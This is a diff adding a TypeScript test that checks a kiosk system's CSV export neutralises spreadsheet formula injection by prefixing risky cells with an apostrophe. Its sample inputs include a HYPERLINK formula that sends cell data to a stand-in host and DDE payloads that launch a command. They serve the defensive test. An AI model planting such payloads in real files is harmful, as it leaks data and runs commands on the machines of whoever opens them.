@@ -142,6 +142,108 @@ describe('export batch with gpg', () => {
   });
 });
 
+describe('CSV cells cannot become formulas (issue 17)', () => {
+  // Every way a spreadsheet starts a formula, as a resident could type it.
+  const FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '+1+cmd|\' /C calc\'!A0',
+    '-2+3',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1',
+  ];
+  const TRIGGER = /^[=+\-@\t\r]/;
+
+  it('every text cell of every CSV that starts like a formula gets a leading apostrophe; numbers and JSON Lines stay raw', async () => {
+    const dataDir = join(tmp.dir, 'hall-formulas');
+    await seedHall(dataDir, 3);
+    const cipher = new PersonalDataCipher({ kind: 'key_file', file: join(dataDir, 'keys', 'personal-data.key'), dataDir });
+    const db = await Database.open(join(dataDir, 'hall.sqlite3'));
+    const t3 = (zh: string) => ({ zh, bo: zh, ug: zh });
+    const definition = {
+      id: 'formulas', version: 1, serviceId: null, title: t3('公式'), allowWithoutTicket: true,
+      fields: [
+        { code: 'text', type: 'text', label: t3('文本'), required: false, personal: false },
+        { code: 'long', type: 'longtext', label: t3('长文本'), required: false, personal: false },
+        { code: 'name', type: 'text', label: t3('姓名'), required: false, personal: true },
+        { code: 'whole', type: 'integer', label: t3('整数'), required: false, personal: false },
+        { code: 'part', type: 'decimal', label: t3('小数'), required: false, personal: false },
+        { code: 'when', type: 'date', label: t3('日期'), required: false, personal: false },
+        { code: 'pick', type: 'multichoice', label: t3('多选'), required: false, personal: false, choices: [{ code: 'a', label: t3('甲') }] },
+        { code: 'ok', type: 'yesno', label: t3('是否'), required: false, personal: false },
+      ],
+    };
+    await db.write(async (c) => {
+      await c.run(`INSERT INTO form_definitions (id, version, definition, created_at) VALUES ('formulas', 1, ?, 1)`, [JSON.stringify(definition)]);
+      for (const [i, f] of FORMULAS.entries()) {
+        const id = `f-${i}`;
+        const sealed = cipher.seal({ name: f }, id);
+        const answers = { text: f, long: `${f}\nsecond line`, whole: -5 - i, part: -1.5, when: '2026-11-20', pick: ['a'], ok: false, other_code: f };
+        await c.run(
+          `INSERT INTO submissions (id, form_id, form_version, language, filled_by, created_at, day, answers, sealed, key_id)
+           VALUES (?, 'formulas', 1, 'zh', 'kiosk', ?, ?, ?, ?, ?)`,
+          [id, PAST_DAY_10H + i, PAST_DAY, JSON.stringify(answers), sealed.sealed, sealed.keyId],
+        );
+      }
+      await c.run(`INSERT INTO ratings (id, ticket_id, counter_id, staff_id, service_id, day, score, reasons, via, at) SELECT 'r-1', id, counter_id, '-staff', service_id, day, 1, ?, 'pad', ? FROM tickets WHERE id = 't-000001'`, [JSON.stringify(['=bad', '+worse']), PAST_DAY_10H + 600_000]);
+      await c.run(`INSERT INTO rating_followups (id, rating_id, opened_at, closed_at, closed_by, note) VALUES ('fu-1', 'r-1', ?, ?, '@staff', ?)`, [PAST_DAY_10H + 700_000, PAST_DAY_10H + 800_000, FORMULAS[0]!]);
+    });
+    await db.close();
+
+    const out = join(tmp.dir, 'out-formulas');
+    mkdirSync(out);
+    const r = await runCli('export', ['--data-dir', dataDir, '--district-key', key.publicFile, '--to-folder', out]);
+    assert.equal(r.code, 0, r.stderr);
+    const batchId = r.stdout.trim();
+    const hall = (await readHallPublicKey(dataDir))!;
+    gpgImport(key, hall.armored);
+    const d = gpgDecrypt(key, join(out, `${batchId}.gpg`));
+    assert.ok(d.ok, d.stderr);
+    const files = untar(d.plain);
+    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8')) as { csvFormulaGuard?: string; files: { name: string }[] };
+    assert.equal(manifest.csvFormulaGuard, 'leading-apostrophe');
+
+    // Every cell of every CSV, opened back with a CSV parser: nothing starts like a formula
+    // except a plain number.
+    const csvNames = [...files.keys()].filter((n) => n.endsWith('.csv'));
+    assert.ok(csvNames.includes('submissions-formulas-v1.csv') && csvNames.includes('rating_followups.csv') && csvNames.includes('ratings.csv'), csvNames.join(', '));
+    for (const name of csvNames) {
+      for (const row of parseCsv(files.get(name)!.toString('utf8'))) {
+        for (const cell of row) assert.ok(!TRIGGER.test(cell) || /^-\d+(?:\.\d+)?$/.test(cell), `${name}: ${JSON.stringify(cell)}`);
+      }
+    }
+
+    const rows = parseCsv(files.get('submissions-formulas-v1.csv')!.toString('utf8'));
+    const col = (code: string) => rows[0]!.indexOf(code);
+    const byId = new Map(rows.slice(2).map((row) => [row[0], row]));
+    for (const [i, f] of FORMULAS.entries()) {
+      const row = byId.get(`f-${i}`)!;
+      assert.equal(row[col('text')], `'${f}`, 'text');
+      assert.equal(row[col('long')], `'${f}\nsecond line`, 'longtext');
+      assert.equal(row[col('name')], `'${f}`, 'sealed personal text');
+      assert.equal(row[col('whole')], String(-5 - i), 'a negative whole number stays a number');
+      assert.equal(row[col('part')], '-1.5', 'a negative decimal stays a number');
+      assert.equal(row[col('when')], '2026-11-20');
+      assert.equal(row[col('pick')], 'a');
+      assert.equal(row[col('ok')], 'false');
+      assert.ok(row[col('other')]!.startsWith('{'), 'unknown answers as JSON');
+    }
+    const followup = parseCsv(files.get('rating_followups.csv')!.toString('utf8'))[2]!;
+    assert.ok(followup.includes(`'${FORMULAS[0]}`) && followup.includes("'@staff"), JSON.stringify(followup));
+    const rating = parseCsv(files.get('ratings.csv')!.toString('utf8'))[2]!;
+    assert.ok(rating.includes("'=bad;+worse") && rating.includes("'-staff"), JSON.stringify(rating));
+
+    // JSON Lines keep the raw values.
+    const jsonl = files.get('submissions-formulas-v1.jsonl')!.toString('utf8').trim().split('\n').map((l) => JSON.parse(l) as { id: string; answers: Record<string, unknown> });
+    for (const [i, f] of FORMULAS.entries()) {
+      const s = jsonl.find((x) => x.id === `f-${i}`)!;
+      assert.equal(s.answers.text, f);
+      assert.equal(s.answers.name, f);
+      assert.equal(s.answers.whole, -5 - i);
+    }
+  });
+});
+
 describe('admin export routes and the day’s close with a fake clock', () => {
   it('the hall was off at midnight and at 02:00: at start the day closes and one catch-up run delivers', async () => {
     const dataDir = join(tmp.dir, 'hall-b');
